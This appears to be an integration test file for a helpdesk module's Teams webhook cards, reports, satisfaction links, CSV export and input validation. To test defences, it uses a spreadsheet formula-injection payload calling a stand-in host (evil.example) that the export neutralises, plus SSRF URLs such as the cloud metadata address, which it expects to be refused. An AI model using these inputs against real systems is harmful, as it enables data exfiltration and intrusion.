import { createHash } from 'node:crypto';
// Helpdesk insights through the public surface: Teams channels get Adaptive Cards (checked by a local
// Workflows receiver) for new tickets, assignments and automation notices, retried when the receiver
// fails; reports over real tickets created on simulated days; the satisfaction link of the resolution mail
// followed by HTTP; the tickets CSV; bad input; isolation between organisations.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { simpleParser } from 'mailparser';
import { ManualClock } from '../../../src/core/clock.ts';
import { teamsCard } from '../../../src/modules/helpdesk-insights/teams-card.ts';
import { engine, eventsOf, type Org, signUpWithOrg, startTestApp, type TestApp } from '../../support/app.ts';
import { parseCsv } from '../../support/csv.ts';
import { startDnsServer, type TestDnsServer } from '../../support/dns-server.ts';
import { verifiedDomain } from '../../support/domains.ts';
import { type SmtpSink, startSmtpSink } from '../../support/smtp-sink.ts';
import {
  startTeamsReceiver,
  type TeamsReceiver,
  validateTeamsMessage,
} from '../../support/teams-receiver.ts';
import { until } from '../../support/until.ts';

const H = 3_600_000;

describe(`helpdesk insights on ${engine}`, () => {
  let t: TestApp;
  let dns: TestDnsServer;
  let outside: SmtpSink;
  let teams: TeamsReceiver;
  let org: Org & { id: string };
  let other: Org & { id: string };
  let support: any;
  let sales: any;
  let tier1: any;
  let billing: any;
  const clock = new ManualClock('2026-03-02T09:00:00Z');

  const api = (method: string, url: string, body?: unknown, as: Org = org) =>
    t.call(method, url, { token: as.token, body });
  const ok = async (method: string, url: string, body?: unknown, status = 200, as: Org = org) => {
    const res = await api(method, url, body, as);
    assert.equal(res.status, status, `${method} ${url}: ${JSON.stringify(res.body)}`);
    return res.body;
  };
  const cardsAt = (path: string) => teams.cards.filter((c) => c.path.startsWith(path));
  const waitCards = (path: string, count: number) =>
    until(
      async () => cardsAt(path),
      (cards) => cards.length >= count,
      20_000,
    );
  const newTicket = (body: Record<string, unknown>) =>
    ok('POST', '/v1/tickets', { body: 'Please help', ...body }, 201);
  const mailTo = (address: string, count: number) =>
    until(
      async () =>
        Promise.all(
          outside.messages.filter((m) => m.rcptTo.includes(address)).map((m) => simpleParser(m.raw)),
        ),
      (list) => list.length >= count,
      20_000,
    );

  before(async () => {
    dns = await startDnsServer();
    outside = await startSmtpSink();
    teams = await startTeamsReceiver();
    dns.set('customer.test', { MX: [{ exchange: 'mx.customer.test', priority: 10 }] });
    dns.set('mx.customer.test', { A: ['127.0.0.1'] });
    t = await startTestApp({
      workers: true,
      clock,
      env: {
        MAILROOM_HOSTNAME: 'mx.support.test',
        MAILROOM_DNS_SERVERS: dns.address,
        MAILROOM_OUTBOUND_PORT: String(outside.port),
        MAILROOM_PUBLIC_URL: 'https://mailroom.example',
        MAILROOM_HELPDESK_TICKET_URL: 'https://desk.example/tickets/{number}?id={id}',
        MAILROOM_WEBHOOK_ALLOW_HOSTS: '127.0.0.1',
        MAILROOM_WEBHOOK_RETRY_SCHEDULE: '200ms,200ms,200ms',
        MAILROOM_WEBHOOK_TIMEOUT: '2s',
      },
    });
    const owner = await signUpWithOrg(t, 'insights-owner@example.com', 'Insights Co');
    org = { token: owner.token, orgId: owner.orgId, id: owner.id };
    const stranger = await signUpWithOrg(t, 'insights-other@example.com', 'Other Co');
    other = { token: stranger.token, orgId: stranger.orgId, id: stranger.id };
    await verifiedDomain(t, org.token, 'support.test', [dns]);
    await ok('POST', '/v1/mailboxes', { address: 'help@support.test' }, 201);
    await ok('POST', '/v1/mailboxes', { address: 'sales@support.test' }, 201);
    await ok('PUT', `/v1/helpdesk/agents/${org.id}`, { role: 'supervisor' });
    tier1 = await ok('POST', '/v1/helpdesk/teams', { name: 'Tier 1', member_ids: [org.id] }, 201);
    billing = await ok('POST', '/v1/helpdesk/categories', { name: 'Billing' }, 201);
    support = await ok(
      'POST',
      '/v1/helpdesk/desks',
      { name: 'Support', addresses: ['help@support.test'] },
      201,
    );
    sales = await ok('POST', '/v1/helpdesk/desks', { name: 'Sales', addresses: ['sales@support.test'] }, 201);
  });
  after(async () => {
    await t?.close();
    await teams?.close();
    await outside?.close();
    await dns?.close();
  });

  test('Teams: cards for new tickets and assignments, per desk and event type; the URL is never shown', async () => {
    const all = await ok(
      'POST',
      '/v1/helpdesk/teams-channels',
      {
        name: 'Support room',
        webhook_url: teams.url('/support?api-version=1&sig=TopSecretSig123'),
        desk_ids: [support.id],
      },
      201,
    );
    assert.deepEqual(all.event_types, [
      'ticket.created',
      'ticket.assigned',
      'ticket.sla_warning',
      'ticket.sla_breached',
      'ticket.automation_notify',
    ]);
    assert.equal(all.webhook_url, `http://127.0.0.1:${teams.port}/…g123`);
    assert.ok(
      !JSON.stringify(await ok('GET', `/v1/helpdesk/teams-channels/${all.id}`)).includes('TopSecret'),
    );
    await ok(
      'POST',
      '/v1/helpdesk/teams-channels',
      {
        name: 'Sales room',
        webhook_url: teams.url('/sales'),
        desk_ids: [sales.id],
        event_types: ['ticket.created'],
      },
      201,
    );

    const ticket = await newTicket({
      desk_id: support.id,
      subject: 'Printer on fire',
      requester: { email: 'dave@customer.test' },
    });
    const [created] = await waitCards('/support', 1);
    assert.deepEqual(validateTeamsMessage(created!.json), []);
    assert.equal(created!.json.attachments[0].contentUrl, null);
    assert.equal(created!.card.version, '1.4');
    assert.equal(created!.card.body[0].text, `New ticket #${ticket.number}: Printer on fire`);
    const facts = Object.fromEntries(
      created!.card.body.find((e: any) => e.type === 'FactSet').facts.map((f: any) => [f.title, f.value]),
    );
    assert.equal(facts.Desk, 'Support');
    assert.equal(facts.Priority, 'normal');
    assert.equal(facts.Assignee, 'Unassigned');
    assert.deepEqual(created!.card.actions, [
      {
        type: 'Action.OpenUrl',
        title: 'Open ticket',
        url: `https://desk.example/tickets/${ticket.number}?id=${ticket.id}`,
      },
    ]);
    assert.ok(created!.headers['webhook-id'], 'a stable id per card');

    // Assignment: a ticket.updated that sets the assignee.
    await ok('PATCH', `/v1/tickets/${ticket.id}`, { assignee_id: org.id });
    const [, assigned] = await waitCards('/support', 2);
    assert.deepEqual(validateTeamsMessage(assigned!.json), []);
    assert.equal(
      assigned!.card.body[0].text,
      `Ticket #${ticket.number} assigned to insights-owner@example.com`,
    );
    // Other changes are not announced; the sales channel hears only of sales tickets.
    await ok('PATCH', `/v1/tickets/${ticket.id}`, { priority: 'high' });
    await newTicket({
      desk_id: sales.id,
      subject: 'Quote please',
      requester: { email: 'erin@customer.test' },
    });
    const [salesCard] = await waitCards('/sales', 1);
    assert.match(salesCard!.card.body[0].text, /Quote please/);
    await newTicket({ desk_id: support.id, subject: 'Marker', requester: { email: 'dave@customer.test' } });
    await waitCards('/support', 3);
    assert.equal(cardsAt('/support').length, 3, 'no card for the priority change, none for sales tickets');
    assert.match(cardsAt('/support')[2]!.card.body[0].text, /Marker/);
    assert.equal(cardsAt('/sales').length, 1);

    // The receiver has the card a moment before the worker records its answer.
    const log = await until(
      () => ok('GET', `/v1/helpdesk/teams-channels/${all.id}/deliveries`),
      (page) => page.items.every((d: any) => d.status !== 'pending'),
    );
    assert.equal(log.total, 3);
    assert.ok(
      log.items.every((d: any) => d.status === 'succeeded' && d.attempts === 1 && d.last_status_code === 202),
      JSON.stringify(log.items),
    );
    assert.deepEqual(log.items.map((d: any) => d.kind).sort(), [
      'ticket.assigned',
      'ticket.created',
      'ticket.created',
    ]);
  });

  test('Teams: a failing receiver is retried with backoff; a disabled channel gets nothing; test cards', async () => {
    const channel = await ok(
      'POST',
      '/v1/helpdesk/teams-channels',
      { name: 'Flaky room', webhook_url: teams.url('/flaky'), event_types: ['ticket.created'] },
      201,
    );
    teams.failNext(2, 503, '/flaky');
    const ticket = await newTicket({
      desk_id: sales.id,
      subject: 'Retry me',
      requester: { email: 'fay@customer.test' },
    });
    const [card] = await waitCards('/flaky', 1);
    assert.match(card!.card.body[0].text, new RegExp(`#${ticket.number}: Retry me`));
    const [delivery] = (
      await until(
        () => ok('GET', `/v1/helpdesk/teams-channels/${channel.id}/deliveries?status=succeeded`),
        // The page and its count are two reads: wait for the row itself.
        (page) => page.items.length === 1,
      )
    ).items;
    // Two scripted 503s, then accepted (an attempt the network cut short would add one).
    assert.equal(teams.failed, 2);
    assert.ok(delivery.attempts >= 3, JSON.stringify(delivery));
    assert.equal(delivery.last_status_code, 202);
    const shown = await ok('GET', `/v1/helpdesk/teams-channels/${channel.id}`);
    assert.ok(shown.last_success_at && shown.last_failure_at);
    assert.match(shown.last_error, /HTTP 503/);

    // A test card now, reported at once.
    const tested = await ok('POST', `/v1/helpdesk/teams-channels/${channel.id}/test`);
    assert.equal(tested.status, 'succeeded');
    assert.equal(tested.kind, 'test');
    const [, testCard] = await waitCards('/flaky', 2);
    assert.equal(testCard!.card.body[0].text, 'Test notification from Mailroom');

    await ok('PATCH', `/v1/helpdesk/teams-channels/${channel.id}`, { enabled: false });
    await newTicket({
      desk_id: sales.id,
      subject: 'Nobody hears this',
      requester: { email: 'fay@customer.test' },
    });
    // Nothing is queued for a disabled channel (the fan-out ran in the ticket's transaction).
    assert.equal((await ok('GET', `/v1/helpdesk/teams-channels/${channel.id}/deliveries`)).total, 2);
    assert.equal(cardsAt('/flaky').length, 2);
    await ok('DELETE', `/v1/helpdesk/teams-channels/${channel.id}`, undefined, 204);
    await ok('GET', `/v1/helpdesk/teams-channels/${channel.id}`, undefined, 404);
  });

  test('Teams: an automation rule’s notify_teams action becomes a card', async () => {
    await ok(
      'POST',
      '/v1/helpdesk/teams-channels',
      { name: 'Automation room', webhook_url: teams.url('/auto'), event_types: ['ticket.automation_notify'] },
      201,
    );
    await ok(
      'POST',
      '/v1/helpdesk/automations',
      {
        name: 'VIP alert',
        trigger: 'ticket.created',
        conditions: [{ field: 'subject', op: 'contains', value: 'VIP' }],
        actions: [{ type: 'notify_teams', message: 'A VIP wrote in' }],
      },
      201,
    );
    const ticket = await newTicket({
      desk_id: support.id,
      subject: 'VIP needs help',
      requester: { email: 'gus@customer.test' },
    });
    const [card] = await waitCards('/auto', 1);
    assert.deepEqual(validateTeamsMessage(card!.json), []);
    assert.equal(card!.card.body[0].text, `VIP alert: ticket #${ticket.number}`);
    assert.equal(card!.card.body[1].text, 'A VIP wrote in');
  });

  test('Teams: SLA warning and breach cards (the SLA module’s payload) pass the schema checks', () => {
    const ticket = {
      id: '0190d6a8-0000-7000-8000-000000000001',
      number: 7,
      subject: 'Slow',
      status: 'open',
      priority: 'urgent',
      desk_id: '0190d6a8-0000-7000-8000-000000000002',
      requester_email: 'x@customer.test',
      assignee_id: null,
    };
    const data = {
      ticket,
      sla: { policy_name: 'Gold', target: 'first_response', due_at: '2026-03-02T10:00:00.000Z' },
      escalation: { actions: ['raise_priority', 'notify_teams'], notify_teams: true },
    };
    for (const kind of ['ticket.sla_warning', 'ticket.sla_breached'] as const) {
      const message = teamsCard(kind, data, ticket, {
        deskName: 'Support',
        assignee: null,
        actor: null,
        ticketUrl: 'https://desk.example/t/7',
      });
      assert.deepEqual(validateTeamsMessage(message), []);
      const card = message.attachments[0]!.content;
      assert.match(
        (card.body[0] as { text: string }).text,
        kind === 'ticket.sla_warning' ? /^SLA warning on ticket #7 \(first response\)/ : /^SLA breached/,
      );
      const facts = (card.body.find((e) => e.type === 'FactSet') as any).facts;
      assert.deepEqual(facts.slice(0, 4), [
        { title: 'Policy', value: 'Gold' },
        { title: 'Target', value: 'first_response' },
        { title: kind === 'ticket.sla_warning' ? 'Due' : 'Was due', value: '2026-03-02 10:00 UTC' },
        { title: 'Escalation', value: 'raise priority, notify teams' },
      ]);
    }
    // The receiver refuses what Teams would refuse.
    assert.ok(
      validateTeamsMessage({ type: 'message', attachments: [{ contentType: 'text/plain', content: {} }] })
        .length > 0,
    );
    assert.ok(
      validateTeamsMessage({
        type: 'message',
        attachments: [
          {
            contentType: 'application/vnd.microsoft.card.adaptive',
            contentUrl: null,
            content: {
              type: 'AdaptiveCard',
              version: '1.4',
              body: [{ type: 'FactSet', facts: [{ title: 'a', value: 1 }] }],
            },
          },
        ],
      }).some((e) => e.includes('title and value must be strings')),
    );
  });

  test('reports over real tickets on simulated days; CSAT from the resolution mail’s link; CSV', async () => {
    // Start afresh in a week of its own: what the Teams tests opened is closed before it.
    const earlier = (await ok('GET', '/v1/tickets?page_size=200')).items.map((x: any) => x.id);
    await ok('POST', '/v1/tickets/bulk', { ids: earlier, changes: { status: 'closed' } });
    clock.set('2026-03-09T09:00:00Z');
    const t1 = await newTicket({
      desk_id: support.id,
      subject: '=HYPERLINK("http://evil.example/?"&A1)',
      requester: { email: 'alice@customer.test' },
      priority: 'urgent',
      category_id: billing.id,
      team_id: tier1.id,
      assignee_id: org.id,
      due_at: '2026-03-09T17:00:00Z',
    });
    clock.advance(H);
    const t2 = await newTicket({
      desk_id: support.id,
      subject: 'Login broken',
      requester: { email: 'bob@customer.test' },
    });
    clock.set('2026-03-09T11:00:00Z');
    await ok('POST', `/v1/tickets/${t1.id}/comments`, { body: 'On it.', visibility: 'public' }, 201);
    clock.set('2026-03-09T14:00:00Z');
    await ok('PATCH', `/v1/tickets/${t1.id}`, { status: 'resolved' });
    clock.set('2026-03-10T10:00:00Z');
    const t3 = await newTicket({
      desk_id: sales.id,
      subject: 'Pricing',
      requester: { email: 'carol@customer.test' },
      priority: 'low',
    });
    clock.set('2026-03-11T10:00:00Z');
    await ok('POST', `/v1/tickets/${t2.id}/comments`, { body: 'Fixed.', visibility: 'public' }, 201);
    await ok('PATCH', `/v1/tickets/${t2.id}`, { status: 'resolved' });
    clock.set('2026-03-13T10:00:00Z');

    const week = 'from=2026-03-09&to=2026-03-16';
    const r = await ok('GET', `/v1/helpdesk/reports/summary?${week}`);
    assert.equal(r.created, 3);
    assert.equal(r.resolved, 2);
    assert.deepEqual(r.by_status, [
      { status: 'resolved', count: 2 },
      { status: 'open', count: 1 },
    ]);
    assert.deepEqual(Object.fromEntries(r.by_priority.map((p: any) => [p.priority, p.count])), {
      urgent: 1,
      normal: 1,
      low: 1,
    });
    assert.deepEqual(r.by_assignee, [
      { assignee_id: null, email: null, count: 2 },
      { assignee_id: org.id, email: 'insights-owner@example.com', count: 1 },
    ]);
    assert.deepEqual(r.by_team, [
      { team_id: null, name: null, count: 2 },
      { team_id: tier1.id, name: 'Tier 1', count: 1 },
    ]);
    assert.deepEqual(r.by_category[1], { category_id: billing.id, name: 'Billing', count: 1 });
    assert.deepEqual(r.series.slice(0, 4), [
      { start: '2026-03-09', created: 2, resolved: 1 },
      { start: '2026-03-10', created: 1, resolved: 0 },
      { start: '2026-03-11', created: 0, resolved: 1 },
      { start: '2026-03-12', created: 0, resolved: 0 },
    ]);
    assert.equal(r.series.length, 7);
    // First responses after 2 h and 48 h; resolutions after 5 h and 48 h.
    assert.deepEqual(r.first_response, {
      count: 2,
      p50_seconds: 90_000,
      p90_seconds: 156_240,
      average_seconds: 90_000,
    });
    assert.deepEqual(r.resolution, {
      count: 2,
      p50_seconds: 95_400,
      p90_seconds: 157_320,
      average_seconds: 95_400,
    });
    assert.deepEqual(r.due_dates, {
      with_due_date: 1,
      met: 1,
      missed: 0,
      open_overdue: 0,
      open_on_time: 0,
      compliance: 1,
    });
    assert.deepEqual(r.sla, { compliance: null, targets: [] });
    // Now (13 March 10:00) the open sales ticket is 3 days old.
    assert.deepEqual(
      { ...r.backlog, oldest_created_at: undefined },
      { total: 1, under_1d: 0, from_1d_to_3d: 0, from_3d_to_7d: 1, over_7d: 0, oldest_created_at: undefined },
    );
    const bySales = await ok('GET', `/v1/helpdesk/reports/summary?${week}&desk_id=${sales.id}&interval=week`);
    assert.equal(bySales.created, 1);
    assert.deepEqual(bySales.series, [{ start: '2026-03-09', created: 1, resolved: 0 }]);

    // The resolution mail carries one link per rating; following one records it.
    const [mail] = await until(
      () => mailTo('alice@customer.test', 1),
      (list) => list.some((m) => m.text?.includes('/v1/helpdesk/csat/')),
    ).then((list) => list.filter((m) => m.text?.includes('/v1/helpdesk/csat/')));
    const good = /https:\/\/mailroom\.example(\/v1\/helpdesk\/csat\/[A-Za-z0-9_-]+\?rating=good)/.exec(
      mail!.text!,
    )![1]!;
    const bad = /https:\/\/mailroom\.example(\/v1\/helpdesk\/csat\/[A-Za-z0-9_-]+\?rating=bad)/.exec(
      mail!.text!,
    )![1]!;
    // Opening a link (what a mail scanner does too) records nothing: its page posts the rating, by itself
    // in a browser (a script the page's CSP allows by its hash) or with its button.
    const open = (path: string, ip = '198.51.100.20') => t.call('GET', path, { ip });
    const post = (path: string, rating: string, ip = '198.51.100.20') =>
      t.call('POST', path, {
        ip,
        rawBody: `rating=${rating}`,
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      });
    const click = async (path: string, ip = '198.51.100.20') => {
      const page = await open(path, ip);
      const form = /name="rating" value="(good|bad)"/.exec(String(page.body));
      return form ? post(path, form[1]!, ip) : page;
    };
    const opened = await open(good);
    assert.equal(opened.status, 200);
    assert.match(String(opened.headers['content-type']), /^text\/html/);
    assert.match(opened.body, /<form method="post" action="">/);
    assert.match(opened.body, /<script>document\.forms\[0\]\.submit\(\);<\/script>/);
    const script = createHash('sha256').update('document.forms[0].submit();').digest('base64');
    assert.match(
      String(opened.headers['content-security-policy']),
      new RegExp(`script-src 'sha256-${script.replace(/[+/]/g, '\\$&')}'`),
    );
    assert.equal((await ok('GET', `/v1/helpdesk/reports/summary?${week}`)).csat.responses, 0);
    assert.equal((await post(good, 'meh')).status, 400);
    const first = await post(good, 'good');
    assert.equal(first.status, 200);
    assert.match(String(first.headers['content-type']), /^text\/html/);
    assert.match(first.body, new RegExp(`rated ticket #${t1.number} as <strong>good</strong>`));
    assert.equal(first.headers['referrer-policy'], 'no-referrer');
    let csat = (await ok('GET', `/v1/helpdesk/reports/summary?${week}`)).csat;
    assert.deepEqual(csat, { sent: 2, responses: 1, good: 1, bad: 0, score: 1, response_rate: 0.5 });
    const [rated] = await eventsOf(t, org, 'ticket.csat_rated');
    assert.equal(rated.data.rating, 'good');
    assert.equal(rated.data.ticket.id, t1.id);
    // Changed within the week; after it, a click changes nothing.
    assert.match((await click(bad)).body, /as <strong>bad<\/strong>/);
    clock.advance(8 * 24 * H);
    const late = await click(good);
    assert.equal(late.status, 200);
    assert.match(late.body, /already recorded as <strong>bad<\/strong>/);
    csat = (await ok('GET', `/v1/helpdesk/reports/summary?from=2026-03-09&to=2026-03-31`)).csat;
    assert.deepEqual({ good: csat.good, bad: csat.bad }, { good: 0, bad: 1 });
    // Bad tokens are 404, an unused link expires, a HEAD records nothing, floods from one address (and
    // more than 10 clicks a minute on one link) are refused.
    assert.equal(
      (await click('/v1/helpdesk/csat/nonsense-token-that-is-long-enough?rating=good')).status,
      404,
    );
    assert.equal((await click(good.replace('rating=good', 'rating=meh'))).status, 400);
    assert.equal((await t.call('HEAD', good)).status, 404);
    const [bobMail] = await until(
      () => mailTo('bob@customer.test', 1),
      (list) => list.some((m) => m.text?.includes('/v1/helpdesk/csat/')),
    ).then((list) => list.filter((m) => m.text?.includes('/v1/helpdesk/csat/')));
    const bobLink = /https:\/\/mailroom\.example(\/v1\/helpdesk\/csat\/\S+\?rating=good)/.exec(
      bobMail!.text!,
    )![1]!;
    clock.advance(30 * 24 * H);
    assert.equal((await click(bobLink)).status, 410);
    const statuses: number[] = [];
    for (let n = 0; n < 31; n++)
      statuses.push(
        (await click(`/v1/helpdesk/csat/flood-token-${n}-xxxxxxxxxxxxxxxx?rating=good`, '198.51.100.99'))
          .status,
      );
    assert.deepEqual([statuses[0], statuses[29], statuses[30]], [404, 404, 429]);

    // The CSV: one row per ticket of the window, formula cells neutralised.
    const res = await t.call('GET', `/v1/helpdesk/reports/tickets.csv?${week}`, { token: org.token });
    assert.equal(res.status, 200);
    assert.match(String(res.headers['content-type']), /^text\/csv/);
    assert.match(String(res.headers['content-disposition']), /tickets-2026-03-09-2026-03-15\.csv/);
    const [header, ...rows] = parseCsv(res.body);
    assert.deepEqual(header!.slice(0, 6), ['number', 'subject', 'status', 'priority', 'desk', 'requester']);
    assert.equal(rows.length, 3);
    const row = Object.fromEntries(header!.map((h, i) => [h, rows[0]![i]]));
    assert.equal(row.subject, `'=HYPERLINK("http://evil.example/?"&A1)`);
    assert.equal(row.number, String(t1.number));
    assert.equal(row.assignee, 'insights-owner@example.com');
    assert.equal(row.team, 'Tier 1');
    assert.equal(row.category, 'Billing');
    assert.equal(row.first_response_seconds, '7200');
    assert.equal(row.resolution_seconds, '18000');
    assert.equal(row.csat, 'bad');
    assert.equal(row.created_at, '2026-03-09T09:00:00.000Z');
    assert.deepEqual(
      rows.map((x) => x[0]),
      [t1, t2, t3].map((x) => String(x.number)),
    );
    const bom = await t.call('GET', `/v1/helpdesk/reports/tickets.csv?${week}&desk_id=${sales.id}&bom=true`, {
      token: org.token,
    });
    assert.ok(bom.body.startsWith('\uFEFFnumber,'));
    assert.equal(parseCsv(bom.body.slice(1)).length, 2);
  });

  test('bad input is a 4xx with a reason on every endpoint', async () => {
    const channel = await ok(
      'POST',
      '/v1/helpdesk/teams-channels',
      { name: 'Valid', webhook_url: teams.url('/valid'), event_types: ['ticket.created'] },
      201,
    );
    const url = teams.url('/x');
    const cases: [string, string, unknown, number][] = [
      ['POST', '/v1/helpdesk/teams-channels', { name: 'x', webhook_url: 'ftp://example.com/x' }, 400],
      ['POST', '/v1/helpdesk/teams-channels', { name: 'x', webhook_url: 'http://10.1.2.3/hook' }, 422],
      ['POST', '/v1/helpdesk/teams-channels', { name: 'x', webhook_url: 'http://localhost/hook' }, 422],
      [
        'POST',
        '/v1/helpdesk/teams-channels',
        { name: 'x', webhook_url: 'http://169.254.169.254/latest' },
        422,
      ],
      ['POST', '/v1/helpdesk/teams-channels', { name: '', webhook_url: url }, 400],
      [
        'POST',
        '/v1/helpdesk/teams-channels',
        { name: 'x', webhook_url: url, event_types: ['ticket.deleted'] },
        400,
      ],
      ['POST', '/v1/helpdesk/teams-channels', { name: 'x', webhook_url: url, event_types: [] }, 400],
      ['POST', '/v1/helpdesk/teams-channels', { name: 'x', webhook_url: url, desk_ids: ['not-a-uuid'] }, 400],
      [
        'POST',
        '/v1/helpdesk/teams-channels',
        { name: 'x', webhook_url: url, desk_ids: ['0190d6a8-0000-7000-8000-000000000009'] },
        422,
      ],
      ['POST', '/v1/helpdesk/teams-channels', { name: 'x', webhook_url: url, extra: 1 }, 400],
      ['POST', '/v1/helpdesk/teams-channels', { name: 'Valid', webhook_url: url }, 409],
      ['PATCH', `/v1/helpdesk/teams-channels/${channel.id}`, { webhook_url: 'http://192.168.1.1/' }, 422],
      ['PATCH', `/v1/helpdesk/teams-channels/${channel.id}`, { enabled: 'yes' }, 400],
      ['PATCH', '/v1/helpdesk/teams-channels/not-a-uuid', { enabled: true }, 400],
      ['GET', '/v1/helpdesk/teams-channels/not-a-uuid', undefined, 400],
      ['GET', '/v1/helpdesk/teams-channels?page_size=0', undefined, 400],
      ['DELETE', '/v1/helpdesk/teams-channels/0190d6a8-0000-7000-8000-000000000009', undefined, 404],
      ['POST', '/v1/helpdesk/teams-channels/0190d6a8-0000-7000-8000-000000000009/test', undefined, 404],
      ['GET', `/v1/helpdesk/teams-channels/${channel.id}/deliveries?status=lost`, undefined, 400],
      ['GET', '/v1/helpdesk/reports/summary?from=yesterday', undefined, 400],
      ['GET', '/v1/helpdesk/reports/summary?from=2026-03-10&to=2026-03-01', undefined, 422],
      ['GET', '/v1/helpdesk/reports/summary?from=2020-01-01&to=2026-01-01', undefined, 422],
      ['GET', '/v1/helpdesk/reports/summary?from=2025-01-01&to=2026-12-01&interval=day', undefined, 422],
      ['GET', '/v1/helpdesk/reports/summary?interval=month', undefined, 400],
      ['GET', '/v1/helpdesk/reports/summary?desk_id=0190d6a8-0000-7000-8000-000000000009', undefined, 422],
      ['GET', '/v1/helpdesk/reports/summary?desk_id=nope', undefined, 400],
      ['GET', '/v1/helpdesk/reports/summary?unknown=1', undefined, 400],
      ['GET', '/v1/helpdesk/reports/tickets.csv?to=2026-13-45', undefined, 400],
      ['GET', '/v1/helpdesk/reports/tickets.csv?bom=yes', undefined, 400],
      ['GET', '/v1/helpdesk/csat/abc', undefined, 400],
      ['GET', `/v1/helpdesk/csat/${'x'.repeat(300)}?rating=good`, undefined, 414],
    ];
    for (const [method, path, body, status] of cases) {
      const res = await api(method, path, body);
      assert.equal(
        res.status,
        status,
        `${method} ${path} ${JSON.stringify(body)}: ${res.status} ${JSON.stringify(res.body)}`,
      );
      assert.match(String(res.headers['content-type']), /application\/problem\+json/);
      assert.ok(res.body.detail, 'a reason');
    }
    // The SSRF guard runs again at delivery: a name that turns private later is refused then.
    const unauthenticated = await t.call('GET', '/v1/helpdesk/reports/summary');
    assert.equal(unauthenticated.status, 401);
  });

  test('organisations are isolated: channels, deliveries, reports, exports', async () => {
    const mine = (await ok('GET', '/v1/helpdesk/teams-channels')).items[0];
    for (const [method, path, body] of [
      ['GET', `/v1/helpdesk/teams-channels/${mine.id}`, undefined],
      ['PATCH', `/v1/helpdesk/teams-channels/${mine.id}`, { name: 'Pwned' }],
      ['DELETE', `/v1/helpdesk/teams-channels/${mine.id}`, undefined],
      ['POST', `/v1/helpdesk/teams-channels/${mine.id}/test`, undefined],
      ['GET', `/v1/helpdesk/teams-channels/${mine.id}/deliveries`, undefined],
    ] as const) {
      assert.equal((await api(method, path, body, other)).status, 404, `${method} ${path}`);
    }
    assert.equal((await ok('GET', '/v1/helpdesk/teams-channels', undefined, 200, other)).total, 0);
    // Another organisation's desk is no desk at all.
    const res = await api(
      'POST',
      '/v1/helpdesk/teams-channels',
      { name: 'Spy', webhook_url: teams.url('/spy'), desk_ids: [support.id] },
      other,
    );
    assert.equal(res.status, 422);
    assert.equal(
      (await api('GET', `/v1/helpdesk/reports/summary?desk_id=${support.id}`, undefined, other)).status,
      422,
    );
    const theirs = await ok(
      'GET',
      '/v1/helpdesk/reports/summary?from=2026-03-01&to=2026-05-01',
      undefined,
      200,
      other,
    );
    assert.equal(theirs.created, 0);
    assert.equal(theirs.csat.sent, 0);
    assert.equal(theirs.backlog.total, 0);
    const csv = await t.call('GET', '/v1/helpdesk/reports/tickets.csv?from=2026-03-01&to=2026-05-01', {
      token: other.token,
    });
    assert.equal(parseCsv(csv.body).length, 1, 'the header only');
    assert.equal(
      (await ok('GET', '/v1/helpdesk/reports/summary?from=2026-03-01&to=2026-05-01')).created >= 3,
      true,
    );
  });
});
